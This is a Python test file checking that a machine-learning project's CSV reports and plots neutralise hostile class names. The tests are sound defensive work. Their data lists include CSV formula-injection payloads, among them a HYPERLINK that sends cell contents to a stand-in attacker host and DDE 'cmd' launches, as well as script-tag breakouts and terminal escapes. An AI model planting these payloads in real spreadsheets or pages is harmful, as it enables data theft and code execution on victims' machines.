"""Texts in CSV files execute nothing in spreadsheets and pages, and are read back unchanged."""

import csv
import io
import re
from contextlib import chdir
from pathlib import Path

from retrain.data import report_csv
from retrain.data.report_csv import read_columns, write_columns
from retrain.evaluation import metrics, plots
from retrain.evaluation.intervals import Judged
from retrain.models import description
from retrain.models.result import Result

import numpy as np
import pandas as pd
import pytest
from dvc import cli as dvc_cli
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.figure import Figure
from support.model_folders import change, write_model

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0dx", "\uff20x", "a;=1+1", "a\t=1+1", "a\r\n=1+1", ";;@x", "'=1+1", "''=1+1", "-",
    "-1-1", "+1+1", "=", "1;-1+1", '"=1+1"', "a;\"'=1+1", "'\"@x",
]  # fmt: skip
PLAIN = [
    "World", "Sci/Tech", "scikit-learn", "a=b", "a-b", "'90s", "rock 'n' roll", "5 < 6", "a@b.org", "-1", "+1", "-0.5", "-1e-05",
    "café", "море", "a, b", 'a "b"', "a;b", "", "nan", "1", "01", "True",
]  # fmt: skip
MARKUP = ["</script><script>alert(1)</script>", "<!--", "<'/script>", "</b>", "<script>"]
START = re.compile(r"[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")
NUMBER = re.compile(r"[+-]?[\d.]+(e[+-]?\d+)?", re.IGNORECASE)
texts = st.text(st.sampled_from("'\"=+-@;,\t\r\n</!>a1.e \uff1d") | st.characters(codec="utf-8"), max_size=8)


def written(table: pd.DataFrame, folder: Path) -> bytes:
    """The bytes of a table's CSV, after a check that it is read back as the same table."""
    path = folder / "table.csv"
    write_columns(path, table.to_dict("list"))
    read = pd.DataFrame(read_columns(path, "hint", ())).astype(table.dtypes)
    pd.testing.assert_frame_equal(read, table)
    return path.read_bytes()


def of_names(names: list[str]) -> pd.DataFrame:
    """A table like predictions.csv, with one row per name."""
    numbers = [-1.5 * number for number in range(len(names))]
    columns = {f"probability_{name}": numbers for name in dict.fromkeys(names)}
    return pd.DataFrame({"target": names, "predicted": names[::-1], **columns}).astype({"target": "str"})


def cells(content: bytes, separator: str) -> list[str]:
    """The cells of a spreadsheet that are not numbers, for the separator of its language."""
    rows = csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator)
    return [cell for row in rows for cell in row if not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("name", FORMULAS)
def test_names_start_no_formula(tmp_path, name):
    content = written(of_names([name, "plain"]), tmp_path)
    for separator in ",;\t":
        assert [cell for cell in cells(content, separator) if START.match(cell.lstrip('"'))] == []
    assert written(of_names([name, "plain"]), tmp_path) == content


@pytest.mark.parametrize("name", PLAIN)
def test_plain_names_are_not_changed(tmp_path, name):
    table = of_names([name, "plain"])
    assert written(table, tmp_path).decode() == table.to_csv(index=False, lineterminator="\n")


@pytest.mark.parametrize("name", MARKUP)
def test_names_end_no_script(tmp_path, name):
    content = written(of_names([name, "plain"]), tmp_path)
    assert b"</" not in content
    assert b"<!" not in content


@settings(deadline=None, max_examples=200)
@given(name=texts)
def test_escaped_texts_can_be_restored(name):
    escaped = report_csv.escape_cell(name)
    assert report_csv.unescape_cell(escaped) == name
    if not report_csv.NUMBER.fullmatch(name):
        assert not any(START.match(part.lstrip('"')) for part in re.split(r"[;\t\r\n]", escaped))
    assert not re.search("<[/!]", escaped)


@settings(deadline=None, max_examples=30)
@given(names=st.lists(texts, min_size=2, max_size=4, unique=True))
def test_class_names_survive_a_file(tmp_path_factory, names):
    written(of_names(names), tmp_path_factory.getbasetemp())


def test_numbers_stay_numbers(tmp_path):
    table = pd.DataFrame({"epoch": [1, 2], "loss": [-0.5, 1e-9], "other": [-1, 2]})
    assert written(table, tmp_path) == b"epoch,loss,other\n1,-0.5,-1\n2,1e-09,2\n"


def test_an_empty_table_is_a_header(tmp_path):
    write_columns(tmp_path / "table.csv", {"class": [], "f1": []})
    assert (tmp_path / "table.csv").read_bytes() == b"class,f1\n"


HOSTILE = [
    *FORMULAS[:3],
    *MARKUP[:2],
    "](javascript:alert(1))",
    "$x^$",
    "$\\frac{1}{0}$",
    "\\",
    "a\nb\x1b[2J",
    "x" * 10_000,
    "%s{}",
]
"""Names with a meaning for spreadsheets, pages, Markdown, TeX or terminals, and one that is too long for a plot."""


def test_confusion_plots_take_any_name(tmp_path):
    path = tmp_path / "reports" / "mine" / "tables" / "confusion.csv"
    path.parent.mkdir(parents=True)
    names = HOSTILE
    places = np.arange(len(names))
    write_columns(path, metrics.tables_of(Judged(places, places[::-1], np.eye(len(names))), HOSTILE)["confusion.csv"])
    folder = write_model(tmp_path / "mine", "text", "classification")
    learned = {"classes": HOSTILE, "counts": [1] * len(HOSTILE)}
    change(folder, "task", "learned", to=learned)
    confusion = read_columns(path, "hint", ())
    assert [*dict.fromkeys(confusion["target"])] == HOSTILE
    described = description.read(folder)
    counts = plots.confusion_counts(Result("mine", tmp_path, ()), described)
    data = plots.PlotData("mine", "accuracy", {}, counts, described)
    plots.use_default_style()
    figure = Figure(layout="constrained")
    plots.confusion(figure.subplots(), data)
    figure.savefig(tmp_path / "confusion.png", dpi=50)
    shown = [label.get_text() for label in figure.axes[0].get_xticklabels()]
    assert shown[6] == "$x^$"
    assert all(label.isprintable() and len(label) <= plots.LONGEST_LABEL for label in shown)


def test_carriage_returns_end_no_row(tmp_path):
    written(pd.DataFrame({"target": ["a"], "predicted": ["a"], "probability_b\rc": [0.5]}), tmp_path)


@pytest.fixture(scope="module")
def shown_by_dvc(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The page of `dvc plots show` for predictions with hostile names, with the template of dvc.yaml."""
    folder = tmp_path_factory.mktemp("shown")
    write_columns(folder / "predictions.csv", of_names(HOSTILE).to_dict("list"))
    (folder / "dvc.yaml").write_text(
        "plots:\n- confusion:\n    template: confusion_normalized\n    x: predicted\n    y: {predictions.csv: target}\n"
    )
    (folder / ".dvc").mkdir()
    (folder / ".dvc" / "config").write_text("[core]\nno_scm = true\nanalytics = false\ncheck_update = false\n")
    with chdir(folder):
        assert dvc_cli.main(["plots", "show", "--quiet"]) == 0
    return (folder / "dvc_plots" / "index.html").read_text(encoding="utf-8")


def test_names_end_no_script_of_dvc(shown_by_dvc):
    assert "x^" in shown_by_dvc
    assert "alert(1)" in shown_by_dvc
    scripts = re.findall(r"<script[^>]*>(.*?)</script", shown_by_dvc, re.DOTALL)
    (drawing,) = [script for script in scripts if "vegaEmbed" in script]
    assert drawing.rstrip().endswith("vegaEmbed('#confusion', spec);")
    assert "<!--" not in drawing
